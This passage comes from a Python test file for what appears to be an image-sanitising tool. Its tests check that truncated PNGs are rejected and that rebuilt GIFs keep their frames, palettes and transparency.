    whole = _grey_png(37, 29, interlaced)
    result, dest = _disarm(tmp_path, whole, "png")
    assert result.outcome == "rebuilt", result
    with Image.open(dest) as im:
        assert im.size == (37, 29) and im.getpixel((36, 28)) == (36 * 7 + 28 * 13) % 256
    result, dest = _disarm(tmp_path, _grey_png(37, 29, interlaced, rows_kept=3), "png")
    assert result.outcome == "unprocessable", result
    assert "cut short" in (result.reason or "") and not dest.exists()


def _local_palette_gif(frames: int, size: int = 96) -> bytes:
    """A noisy first frame, then one-pixel frames each with a colour table of its
    own: Pillow makes every later frame an RGB copy of the whole canvas."""
    first = Image.frombytes("P", (size, size), bytes(range(256)) * (size * size // 256))
    first.putpalette(bytes(range(256)) * 3)
    buf = io.BytesIO()
    first.save(buf, "GIF")
    out = bytearray(buf.getvalue()[:-1])
    for i in range(frames - 1):
        out += b"\x2c" + struct.pack("<4H", 0, 0, 1, 1) + b"\x80"
        out += bytes([i % 256, (i * 7) % 256, (i * 13) % 256, 255 - i % 256, 0, 0])
        out += b"\x02\x02\x44\x01\x00"
    return bytes(out + b"\x3b")


def test_gif_frames_with_their_own_palettes_are_reduced_by_the_fast_octree(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Pillow's GIF writer reduces each RGB frame with its adaptive median cut: 700
    frames of a 290 KB GIF took 15 s. The engine reduces them itself, thirteen times
    faster; the frames are kept, the first one exactly."""
    adaptive: list[str] = []
    convert = Image.Image.convert

    def spied(self: Image.Image, mode: str | None = None, *args: object, **kw: object) -> object:
        if kw.get("palette") == Image.Palette.ADAPTIVE:
            adaptive.append(self.mode)
        return convert(self, mode, *args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(Image.Image, "convert", spied)
    result, dest = _disarm(tmp_path, _local_palette_gif(40), "gif")
    assert result.outcome == "rebuilt", result
    assert not adaptive
    with Image.open(dest) as out, Image.open(io.BytesIO(_local_palette_gif(40))) as src:
        assert out.size == src.size and out.n_frames > 1
        assert ImageChops.difference(out.convert("RGB"), src.convert("RGB")).getbbox() is None


def _composed(data: bytes) -> list[bytes]:
    """Every frame of an animation as a viewer shows it (RGBA)."""
    with Image.open(io.BytesIO(data)) as im:
        shown = []
        for index in range(getattr(im, "n_frames", 1)):
            im.seek(index)
            shown.append(im.convert("RGBA").tobytes())
        return shown


@pytest.mark.parametrize("disposal", [1, 2])
def test_an_animation_with_transparency_shows_every_frame_as_before(
    tmp_path: Path, disposal: int
) -> None:
    """A square moving over a transparent background: rebuilt without a disposal
    method, each frame was drawn over the one before, and the squares of the earlier
    frames stayed (660 of 2,500 pixels of the last frame)."""
    frames = []
    for i in range(4):
        im = Image.new("P", (50, 50), 0)
        im.putpalette([0, 0, 0, 255, 0, 0, 0, 255, 0, 0, 0, 255] + [0] * 756)
        ImageDraw.Draw(im).rectangle([i * 10, i * 10, i * 10 + 15, i * 10 + 15], fill=1 + i % 3)
        frames.append(im)
    buf = io.BytesIO()
    frames[0].save(
        buf,
        "GIF",
        save_all=True,
        append_images=frames[1:],
        transparency=0,
        duration=100,
        loop=0,
        disposal=disposal,
    )
    result, dest = _disarm(tmp_path, buf.getvalue(), "gif")
    assert result.outcome == "rebuilt"
    assert _composed(dest.read_bytes()) == _composed(buf.getvalue())
